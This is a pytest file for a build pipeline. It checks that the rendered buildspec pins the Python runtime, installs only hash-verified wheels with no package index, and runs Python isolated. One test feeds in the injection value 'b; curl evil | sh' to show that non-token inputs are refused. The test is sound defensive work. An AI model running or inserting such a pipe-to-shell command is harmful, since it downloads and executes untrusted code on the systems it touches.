"""The rendered buildspec: valid YAML, version 0.2, pinned runtime, a hash-checked install from the
wheelhouse only, Python isolated and outside the checkout."""

from __future__ import annotations

import pytest
import yaml

from mlpipe.build.buildspec import WheelhouseRef, render_buildspec
from mlpipe.config import PipelineConfig
from mlpipe.local.build_install import MAKE_VENV, PIP_INSTALL

HEAVY = ("docker", "npm", "node", "serverless", "sagemaker", "xgboost", "pandas", "scikit", "numpy")
REF = WheelhouseRef("shop-pipeline-123456789012-us-east-1", "123456789012", "0.1.0-abcdef0123456789", "a" * 64)


def _commands(spec: dict) -> list[str]:  # type: ignore[type-arg]
    return [c for phase in spec["phases"].values() for c in phase.get("commands", [])]


@pytest.mark.parametrize("python", ["3.11", "3.12", "3.13"])
def test_valid_yaml_version_and_pinned_runtime(python: str) -> None:
    spec = yaml.safe_load(render_buildspec(PipelineConfig(python_version=python), REF))
    assert str(spec["version"]) == "0.2"
    assert spec["phases"]["install"]["runtime-versions"] == {"python": python}
    assert set(spec["phases"]) <= {"install", "pre_build", "build", "post_build"}


def test_installs_the_wheelhouse_with_hashes_and_no_index() -> None:
    spec = yaml.safe_load(render_buildspec(PipelineConfig(), REF))
    install = spec["phases"]["install"]["commands"]
    download, verify, venv, pip, slim = install
    assert "--expected-bucket-owner 123456789012" in download and f"--bucket {REF.bucket}" in download
    assert f"wheelhouse/{REF.ident}/$f" in download
    assert f'echo "{"a" * 64}  requirements.lock" | sha256sum -c -' in verify
    assert MAKE_VENV.search(venv) and PIP_INSTALL.search(pip)
    for flag in ("--no-index", "--require-hashes", "--only-binary=:all:", "--isolated", "-r "):
        assert flag in pip
    assert "pip install" not in " ".join(c for c in install if c is not pip)  # one install, the hashed one
    assert slim.endswith("-I -m mlpipe.build.slim")
    assert [word for word in HEAVY if word in " ".join(_commands(spec)).lower()] == []


def test_python_runs_isolated_and_never_from_the_checkout() -> None:
    spec = yaml.safe_load(render_buildspec(PipelineConfig(), REF))
    for command in _commands(spec):
        if " -m " in command:
            assert " -I -m " in command, command  # -I: no cwd or PYTHON* variables on sys.path
    # The install phase runs from empty directories; only deploy runs in the checkout, isolated.
    assert all('cd "$(mktemp -d)"' in c for c in spec["phases"]["install"]["commands"][2:])
    assert (
        spec["phases"]["build"]["commands"][-1]
        == '"$HOME/mlpipe-venv/bin/python" -I -m mlpipe --stage "$MLPIPE_STAGE" deploy'
    )


def test_values_that_are_not_plain_tokens_are_refused() -> None:
    with pytest.raises(ValueError, match="plain token"):
        render_buildspec(PipelineConfig(), WheelhouseRef("b; curl evil | sh", "1", "x", "a"))
